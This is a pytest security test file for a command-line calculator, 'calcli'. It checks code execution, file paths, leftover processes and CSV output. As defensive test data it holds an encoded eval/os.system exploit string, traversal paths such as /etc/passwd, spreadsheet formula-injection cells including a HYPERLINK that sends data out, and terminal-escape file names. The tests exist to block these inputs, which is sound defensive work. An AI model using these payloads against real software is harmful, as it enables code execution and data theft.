"""Nothing a user types becomes code; files only where the person running calcli said; nothing left
running.

The threat model and each defence are in docs/security.md. The exploit of the
security issue is here verbatim; the fuzz tests try every Python builtin,
keyword and dunder as a --functions name on every numeric route.
"""

import builtins
import keyword
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
import sympy as sp
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import calcli
from calcli.errors import CalcliError, InputError
from calcli.files import Beneath, FileOutput, FilePolicy, write_new
from calcli.ops.numeric import compile_numeric
from tests.calling import call
from tests.hostile import SLOW
from tests.processes import alive, wait_until

CANARY = "calcli-canary.txt"


def spelled(code: str) -> str:
    """bytes((95, 95, ...)): Python source written as a tuple of character codes."""
    return "(" + ",".join(str(ord(c)) for c in code) + ")"


PAYLOAD = spelled(f"__import__('os').system('touch {CANARY}')")
EXPLOIT = f"eval(bytes({PAYLOAD})) + x"


def test_the_reported_exploit_runs_nothing(calcli_call, tmp_path):
    p = calcli_call(
        "diff-table", EXPLOIT, "--functions", "eval,bytes", "--points", "1,2", cwd=tmp_path
    )
    assert p.returncode == 2 and "reserved name" in p.stderr
    assert not (tmp_path / CANARY).exists()


DANGEROUS = sorted(
    set(dir(builtins))
    | set(keyword.kwlist)
    | {"__import__", "__builtins__", "__class__", "_", "os", "sys"}
)
ORDINARY = ["u", "f", "g", "phi", "w_1"]
SHAPES = ["x", "x, x", "(1, 2)", f"bytes({PAYLOAD})", f"{{}}({PAYLOAD})", "x^2 + 1"]


def routes(call: str, names: list):
    """Every route that evaluates numerically: the Python API of each numeric command."""
    return [
        lambda: calcli.diff_table(call + " + x", points="1,2", functions=names),
        lambda: calcli.solve(call + " = x", numeric_fallback=True, unknowns="x", functions=names),
        lambda: calcli.minimize_constrained(call + " + x^2", method="numeric", functions=names),
        lambda: calcli.minimize_constrained(
            call + " + x^2", subject_to=["x >= 1"], functions=names
        ),
    ]


@settings(
    max_examples=150,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    name=st.sampled_from(DANGEROUS + ORDINARY),
    inner=st.sampled_from(DANGEROUS + ORDINARY),
    shape=st.sampled_from(SHAPES),
)
def test_no_function_name_or_argument_shape_executes(
    name, inner, shape, tmp_path_factory, monkeypatch, capsys
):
    where = tmp_path_factory.mktemp("fuzz")
    monkeypatch.chdir(where)
    monkeypatch.setattr("sys.stdin", None)  # input() would fail loudly
    call = f"{name}({shape.replace('{}', inner)})"
    for route in routes(call, [name, inner] if name != inner else [name]):
        try:
            route()
        except CalcliError:
            pass
    assert not (where / CANARY).exists()
    assert capsys.readouterr().out == ""  # print() was never called


@pytest.mark.parametrize(
    "name", ["eval", "exec", "print", "open", "__import__", "getattr", "input", "breakpoint"]
)
def test_the_evaluator_refuses_undefined_functions_even_when_built_directly(
    name, tmp_path, monkeypatch
):
    """Below the parser: a sympy tree with Function('eval') is refused by the numeric evaluator
    itself."""
    monkeypatch.chdir(tmp_path)
    x = sp.Symbol("x", real=True)
    call = sp.Function(name)(sp.Tuple(*[sp.Integer(ord(c)) for c in "print(1)"]))
    for expr in (sp.Function(name)(x) + x, call * x):
        with pytest.raises(InputError, match="no numeric value"):
            compile_numeric(expr, [x])


@pytest.mark.parametrize(
    "name",
    [
        "eval",
        "exec",
        "print",
        "open",
        "bytes",
        "input",
        "exit",
        "__import__",
        "lambda",
        "class",
        "match",
        "x__y",
    ],
)
def test_reserved_function_names_are_refused_everywhere(name):
    with pytest.raises(InputError):
        calcli.gradient(f"{name}(x)", functions=[name])
    with pytest.raises(InputError):
        calcli.parse("x", functions=[name])


def test_a_tuple_is_never_a_function_argument():
    for text in ("u((1, 2))", "u((x, y), z)", "sin((1, 2))"):
        with pytest.raises(CalcliError):
            calcli.parse(text, functions=["u"])


def test_batch_lines_are_as_safe_as_commands(calcli_call, tmp_path):
    batch = tmp_path / "lines.txt"
    batch.write_text(
        "\n".join(
            [
                f"diff-table '{EXPLOIT}' --functions eval,bytes --points 1,2",
                f"solve 'u(bytes({PAYLOAD})) = x' --functions u --numeric",
                "grad x --functions print",
            ]
        )
        + "\n"
    )
    p = calcli_call("batch", str(batch), "--json", cwd=tmp_path)
    assert p.returncode == 1 and p.stdout.count('"ok": false') == 3
    assert not (tmp_path / CANARY).exists()


# --- files -------------------------------------------------------------------------------


def test_a_plot_never_writes_through_a_link_nor_replaces_a_file(calcli_call, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (tmp_path / "out.png").symlink_to(victim)
    p = calcli_call(
        "diff-table", "x", "--points", "1,2", "--plot", "out.png", "--force", cwd=tmp_path
    )
    assert p.returncode == 2 and "symbolic link" in p.stderr and victim.read_text() == "precious"
    p = calcli_call("diff-table", "x", "--points", "1,2", "--plot", "victim.txt.svg", cwd=tmp_path)
    assert p.returncode == 0 and "wrote victim.txt.svg" in p.stderr
    p = calcli_call("diff-table", "x", "--points", "1,2", "--plot", "victim.txt.svg", cwd=tmp_path)
    assert p.returncode == 2 and "--force" in p.stderr
    p = calcli_call(
        "minimize-constrained",
        "x*y",
        "--subject-to",
        "x + y = 1",
        "--maximize",
        "--plot",
        "out.png",
        "--force",
        cwd=tmp_path,
    )
    assert p.returncode == 2 and "symbolic link" in p.stderr and victim.read_text() == "precious"


def test_write_new(tmp_path):
    target = tmp_path / "a.png"
    write_new(str(target), b"one", force=False, option="--plot")
    with pytest.raises(InputError, match="already exists"):
        write_new(str(target), b"two", force=False, option="--plot")
    write_new(str(target), b"two", force=True, option="--plot")
    assert target.read_bytes() == b"two"
    os.mkfifo(tmp_path / "fifo.png")
    with pytest.raises(InputError):
        write_new(str(tmp_path / "fifo.png"), b"x", force=True, option="--plot")


def test_a_batch_line_uses_files_only_inside_allow_files(calcli_call, tmp_path):
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    (tmp_path / "outside.png").symlink_to(tmp_path / "victim")
    (allowed / "escape.svg").symlink_to(tmp_path / "victim.svg")
    policy = FilePolicy(untrusted=True, root=str(allowed))
    assert policy.resolve("plot.svg", "--plot") == Beneath(str(allowed), "plot.svg")
    assert policy.resolve(str(allowed / "a" / ".." / "p.svg"), "--plot") == Beneath(
        str(allowed), "p.svg"
    )
    for path in ("../x.svg", "/etc/passwd", str(tmp_path / "x.svg"), "-", "", "a/../../x.svg"):
        with pytest.raises(InputError):
            policy.resolve(path, "--plot")
    # a link inside the folder is refused when it is used
    with pytest.raises(InputError, match="symbolic link"):
        write_new(policy.resolve("escape.svg", "--plot"), b"x", True, "--plot")
    with pytest.raises(InputError, match="--allow-files"):
        FilePolicy(untrusted=True).resolve("plot.svg", "--plot")
    lines = tmp_path / "lines.txt"
    lines.write_text(
        "diff-table x --points 1,2 --plot p.svg\ndiff-table x --points 1,2 --plot "
        "../q.svg\ndiff-table --data /etc/passwd\n"
    )
    p = calcli_call("batch", str(lines), "--format", "plain", cwd=tmp_path)
    assert [line.split("\t")[1] for line in p.stdout.splitlines()] == [
        "error"
    ] * 3 and "--allow-files" in p.stdout
    p = calcli_call(
        "batch", str(lines), "--format", "plain", "--allow-files", str(allowed), cwd=tmp_path
    )
    assert [line.split("\t")[1] for line in p.stdout.splitlines()] == ["passed", "error", "error"]
    assert (allowed / "p.svg").exists() and not (tmp_path / "q.svg").exists()


@pytest.mark.parametrize("force", [False, True])
def test_a_folder_swapped_for_a_link_while_a_line_computes_is_not_written_through(tmp_path, force):
    """The --allow-files race made deterministic: the path is checked (resolve, in the computing
    child), then sub/ is swapped for a link to a folder outside before the parent writes the
    file."""
    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
    (allowed / "sub").mkdir(parents=True)
    outside.mkdir()
    (outside / "p.svg").write_text("precious")
    (allowed / "sub" / "p.svg").write_text("old")
    path = FilePolicy(untrusted=True, root=str(allowed)).resolve("sub/p.svg", "--plot")
    (allowed / "sub").rename(allowed / "was-sub")
    (allowed / "sub").symlink_to(outside)
    with pytest.raises(InputError, match="symbolic link"):
        FileOutput(path, b"new", force, "--plot").write()
    assert (outside / "p.svg").read_text() == "precious" and sorted(os.listdir(outside)) == [
        "p.svg"
    ]


def test_a_forced_write_replaces_the_file_whole_or_not_at_all(tmp_path, monkeypatch):
    """--force on a full disk: the old picture stays as it was, and no partial file is left."""
    target = tmp_path / "a.png"
    target.write_bytes(b"old picture")
    real_write = os.write

    def full_disk(fd, data):
        real_write(fd, bytes(data[:3]))
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "write", full_disk)
    with pytest.raises(InputError, match="No space left"):
        write_new(str(target), b"new picture", True, "--plot")
    monkeypatch.undo()
    assert target.read_bytes() == b"old picture" and os.listdir(tmp_path) == ["a.png"]


def test_wrote_names_the_file_without_terminal_escapes(tmp_path):
    p = call("grad", "x*y", "--plot", "p\x1b[2J.png", cwd=tmp_path)
    assert p.returncode == 0 and "\x1b" not in p.stderr and "wrote p\\u001b[2J.png" in p.stderr


def test_data_errors_never_show_the_files_content(tmp_path):
    secret = tmp_path / "key.pem"
    secret.write_text(
        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n-----END PRIVATE KEY-----\n"
    )
    with pytest.raises(InputError) as err:
        calcli.diff_table(data=str(secret))
    assert (
        "MIIE" not in err.value.message
        and "BEGIN" not in err.value.message
        and "line" in err.value.message
    )


# --- nothing left behind -----------------------------------------------------------------


needs_proc = pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")


@needs_proc
@pytest.mark.parametrize(
    "how", [signal.SIGTERM, signal.SIGHUP, signal.SIGKILL], ids=["TERM", "HUP", "KILL"]
)
@pytest.mark.parametrize(
    "args", [["grad", SLOW, "--wrt", "x"], ["batch", "-", "--jobs", "2"]], ids=["grad", "batch"]
)
def test_killing_calcli_leaves_no_process_behind(how, args, cold_and_warm):
    stdin = f'grad "{SLOW}" --wrt x\ngrad "{SLOW}" --wrt y\n' if args[0] == "batch" else ""
    proc = subprocess.Popen(
        [sys.executable, "-m", "calcli", *args],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    proc.stdin.write(stdin)
    proc.stdin.close()
    wanted = 2 if args[0] == "batch" else 1
    assert wait_until(lambda: len(cold_and_warm.working(proc.pid)) >= wanted), (
        "the computing processes did not start"
    )
    started = cold_and_warm.working(proc.pid)
    proc.send_signal(how)
    proc.wait(timeout=15)
    assert wait_until(lambda: not any(alive(pid) for pid in started), 10), (
        "a computing process outlived calcli"
    )
    proc.stdout.close()
    proc.stderr.close()


@needs_proc
def test_a_usage_error_stops_the_prestarted_child_at_once(cold_and_warm):
    proc = subprocess.Popen(
        [sys.executable, "-m", "calcli", "grad", "x", "--timeout", "abc"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert wait_until(lambda: cold_and_warm.working(proc.pid) or proc.poll() is not None)
    started = cold_and_warm.working(proc.pid)
    proc.communicate(timeout=30)
    assert proc.returncode == 2
    assert wait_until(lambda: not any(alive(pid) for pid in started), 2)


# --- CSV a spreadsheet opens safely ------------------------------------------------------


FORMULAS = ["=2+5", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", '=HYPERLINK("http://x/?"&A1)']


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_cell_that_starts_like_a_formula_is_text(text):
    from calcli.render.csv_rows import csv_cell, csv_text

    cell = csv_cell(text)
    assert cell.startswith("'") and cell[1:].replace("\\u000d", "\r") == text
    assert next(iter(__import__("csv").reader([csv_text([[text]])])))[0].startswith("'")


@pytest.mark.parametrize("number", ["-1", "-0.5", "+3", "1e-05", "-2.5E+10", ".5", "42", "-0"])
def test_numbers_stay_numbers_in_csv(number):
    from calcli.render.csv_rows import csv_cell

    assert csv_cell(number) == number and csv_cell(float(number)) == str(float(number))


def test_csv_cells_carry_no_terminal_escapes():
    from calcli.render.csv_rows import csv_text

    text = csv_text([["a\x1b[31mred", "\u202etxt.exe"]])
    assert "\x1b" not in text and "\u202e" not in text and "\\u001b" in text and "\\u202e" in text


def test_a_gradebook_from_hostile_file_names_is_safe_to_open(tmp_path, capsys):
    import csv
    import io

    from calcli.formats import Format
    from tests.test_grade import grade

    problems = tmp_path / "problems.txt"
    problems.write_text('grad "x^2"\n')
    answers = tmp_path / "answers"
    answers.mkdir()
    names = ["=2+5", "@SUM(A1)", "+1", "-cmd", "esc\x1b[2J", "rtl\u202egnp"]
    for name in names:
        (answers / f"{name}.txt").write_text("=HYPERLINK(2x)\n")
    code, out, _ = grade(capsys, problems, [answers], fmt=Format.csv, jobs=1)
    assert code == 0
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert out.endswith("\r\n") and "\x1b" not in out and "\u202e" not in out
    firsts = [row[0] for row in rows[2:]]
    # +1 is a number
    assert sorted(firsts) == sorted(
        ["'=2+5", "'@SUM(A1)", "+1", "'-cmd", "esc\\u001b[2J", "rtl\\u202egnp"]
    )
